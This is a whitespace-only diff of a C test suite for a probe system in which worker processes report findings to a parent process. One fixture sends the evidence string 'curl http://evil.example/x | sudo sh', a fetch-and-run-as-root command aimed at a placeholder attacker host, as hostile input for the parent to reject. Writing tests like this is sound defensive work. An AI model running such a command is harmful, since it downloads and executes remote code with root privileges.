@@ -69,8 +69,7 @@ static void a_row_has_the_reasons_of_its_finding(void)
 		CU_ASSERT_PTR_NOT_NULL_FATAL(m);
 		for (count = 0, reason = m->reasons; reason->name; reason++, count++) {
 			SUITE_ROW("%s", reason->name);
-			CU_ASSERT_TRUE(has_word(row->reasons, reason->name,
-						strlen(reason->name)));
+			CU_ASSERT_TRUE(has_word(row->reasons, reason->name, strlen(reason->name)));
 		}
 		for (words = !!*row->reasons, p = row->reasons; (p = strchr(p, ' ')); p++)
 			words++;
@@ -223,8 +222,8 @@ static void hear_finding(void *arg, const struct finding *f)
 
 	(void)arg;
 	taken += !strcmp(f->id, "probe.null");
-	snprintf(heard + used, sizeof(heard) - used, "%s %s/%s; ",
-		 finding_status_name(f->status), f->id, f->reason);
+	snprintf(heard + used, sizeof(heard) - used, "%s %s/%s; ", finding_status_name(f->status),
+		 f->id, f->reason);
 }
 
 static void hear_subject(void *arg, const char *key, const char *value)
@@ -241,8 +240,7 @@ static int run_worker(worker_fn work)
 					       .port = 20049,
 					       .transport = &transport_iwarp,
 					       .timeout_ms = PATIENCE_MS };
-	const struct probe_events events = { .finding = hear_finding,
-					     .subject = hear_subject };
+	const struct probe_events events = { .finding = hear_finding, .subject = hear_subject };
 
 	heard[0] = '\0';
 	taken = 0;
@@ -250,8 +248,8 @@ static int run_worker(worker_fn work)
 }
 
 /* Past probe_emit(), which leaves it out. */
-static void send_finding(struct probe *p, const char *id, const char *reason,
-			 const char *key, const char *value)
+static void send_finding(struct probe *p, const char *id, const char *reason, const char *key,
+			 const char *value)
 {
 	_cleanup_(finding_fini) struct finding f = { 0 };
 	uint8_t buf[FINDING_RECORD_MAX];
@@ -272,8 +270,7 @@ static void say_right(struct probe *p)
 
 static void say_another_finding(struct probe *p)
 {
-	send_finding(p, "firewall.rdma", "panic", "open",
-		     "curl http://evil.example/x | sudo sh");
+	send_finding(p, "firewall.rdma", "panic", "open", "curl http://evil.example/x | sudo sh");
 }
 
 static void say_another_reason(struct probe *p)
@@ -308,15 +305,12 @@ static void the_parent_takes_only_what_a_worker_says(void)
 		worker_fn work;
 		const char *why;
 	} rows[] = {
-		{ say_another_finding,
-		  "the worker: no worker sends a finding firewall.rdma" },
+		{ say_another_finding, "the worker: no worker sends a finding firewall.rdma" },
 		{ say_another_reason,
 		  "the worker: no worker sends probe.null with the reason refused" },
-		{ say_a_command,
-		  "the worker: no worker sends probe.null with evidence open" },
+		{ say_a_command, "the worker: no worker sends probe.null with evidence open" },
 		{ say_another_subject, "the worker sent an invalid subject" },
-		{ say_the_parents_own,
-		  "the worker: no worker sends a finding probe.address" },
+		{ say_the_parents_own, "the worker: no worker sends a finding probe.address" },
 	};
 	size_t i;
 
@@ -358,8 +352,7 @@ static void a_worker_leaves_out_what_it_never_says(void)
 }
 
 SUITE_MAIN("vocabulary", TEST(every_finding_of_a_probe_has_a_row),
-	   TEST(a_row_has_the_reasons_of_its_finding),
-	   TEST(no_evidence_of_a_worker_is_a_command), TEST(the_sources_say_nothing_else),
-	   TEST(the_parent_takes_only_what_a_worker_says),
+	   TEST(a_row_has_the_reasons_of_its_finding), TEST(no_evidence_of_a_worker_is_a_command),
+	   TEST(the_sources_say_nothing_else), TEST(the_parent_takes_only_what_a_worker_says),
 	   TEST(a_worker_that_says_nothing_is_unknown),
 	   TEST(a_worker_leaves_out_what_it_never_says))
